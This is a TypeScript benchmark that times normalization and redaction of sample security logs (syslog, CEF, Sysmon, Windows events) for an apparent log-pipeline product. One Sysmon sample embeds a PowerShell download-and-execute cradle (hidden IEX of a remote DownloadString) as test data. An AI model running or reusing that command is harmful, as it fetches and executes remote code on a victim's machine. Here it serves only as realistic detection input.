import { hrtime } from 'node:process'
import type { LogEventReceivedPayload } from '@wardline/events'
import { DEFAULT_TENANT } from '@wardline/kernel'
import { createRedactor } from '@wardline/redaction'
import { createNormalize } from '../src/pipeline/normalize.ts'

/**
 * Microseconds per event for typical logs, including redaction. Asserts nothing. Run
 * `node apps/normalizer/bench/normalize.ts`.
 */

const sysmon = {
  EventID: 1,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Hostname: 'WS7.corp.example',
  SourceName: 'Microsoft-Windows-Sysmon',
  Level: '4',
  '@timestamp': '2026-11-21T09:29:58.500Z',
  UtcTime: '2026-11-21 09:29:58.500',
  ProcessGuid: '{625b42a0-e777-62eb-4307-000000000900}',
  ProcessId: '9568',
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  CommandLine:
    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')"',
  CurrentDirectory: 'C:\\Users\\ann\\',
  User: 'CORP\\ann',
  IntegrityLevel: 'High',
  Hashes: `SHA1=${'A1'.repeat(20)},MD5=${'B2'.repeat(16)},SHA256=${'C3'.repeat(32)}`,
  ParentImage: 'C:\\Windows\\explorer.exe',
  ParentProcessId: '796',
  ParentCommandLine: 'C:\\Windows\\explorer.exe',
}

const SAMPLES: Readonly<Record<string, string>> = {
  sshd: '<38>Nov 21 09:29:58 web1 sshd[4242]: Failed password for invalid user ann from 203.0.113.9 port 52144 ssh2',
  rfc5424:
    '<86>1 2026-11-21T09:29:58.003Z web1.corp.example sudo 77 - - ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/id',
  cef: 'CEF:0|Vendor|Firewall|10.1|106023|Connection denied|8|src=10.0.0.5 spt=1234 dst=203.0.113.7 dpt=443 proto=TCP act=blocked suser=CORP\\\\ann rt=1795253398000',
  sysmon: JSON.stringify(sysmon),
  sysmon_with_message: JSON.stringify({
    ...sysmon,
    Message: Object.entries(sysmon)
      .map(([k, v]) => `${k}: ${v}`)
      .join('\r\n'),
  }),
  security: JSON.stringify({
    EventID: 4625,
    Channel: 'Security',
    Computer: 'DC1',
    TargetUserName: 'bob',
    TargetDomainName: 'CORP',
    SubjectUserName: 'DC1$',
    SubjectDomainName: 'CORP',
    LogonType: 3,
    Status: '0xc000006d',
    SubStatus: '0xc000006a',
    IpAddress: '10.0.0.5',
    IpPort: '50123',
    WorkstationName: 'WS7',
    '@timestamp': '2026-11-21T09:29:58.500Z',
  }),
  json: JSON.stringify({
    time: '2026-11-21T09:29:58.5Z',
    level: 'info',
    msg: 'request done',
    user: 'ann',
    method: 'GET',
    url: '/api/v1/items?x=1',
    status: 200,
    client_ip: '10.0.0.5',
  }),
  web_access:
    '203.0.113.9 - ann [21/Nov/2026:09:29:58 +0100] "GET /index.html?x=1 HTTP/1.1" 200 162 "-" "Mozilla/5.0 (X11; Linux x86_64)"',
}

const normalize = createNormalize()
const redactor = createRedactor({ tenantId: DEFAULT_TENANT, key: new Uint8Array(32).fill(7), epoch: 1 })

function received(raw: string): LogEventReceivedPayload {
  return {
    event_id: 'evt_bench',
    batch_id: 'bat_bench',
    batch_index: 0,
    log_source_id: 'src_bench',
    source: { format: 'auto', vendor: null, product: null, timezone: 'UTC', version: 1 },
    raw,
    raw_kind: 'text',
    event_ref: null,
    observed_at: null,
    asset_id: null,
    received_at: '2026-11-21T09:30:00.000Z',
    encoding_replaced: false,
  }
}

const plain = { ...redactor, readings: (t: string) => ({ message: t, summary: t }), secretsIn: <T>(v: T): T => v }
for (const [name, raw] of Object.entries(SAMPLES)) {
  const event = received(raw)
  const measure = (context: Parameters<typeof normalize>[1]): number => {
    for (let i = 0; i < 3000; i++) normalize(event, context)
    const start = hrtime.bigint()
    for (let i = 0; i < 10_000; i++) normalize(event, context)
    return Number(hrtime.bigint() - start) / 1e7
  }
  const bare = measure({ tenantId: DEFAULT_TENANT, redactor: plain })
  const full = measure({ tenantId: DEFAULT_TENANT, redactor })
  console.log(
    `${name.padEnd(20)} ${String(raw.length).padStart(5)} bytes  parse ${bare.toFixed(1)} us  with policy ${full.toFixed(1)} us`,
  )
}
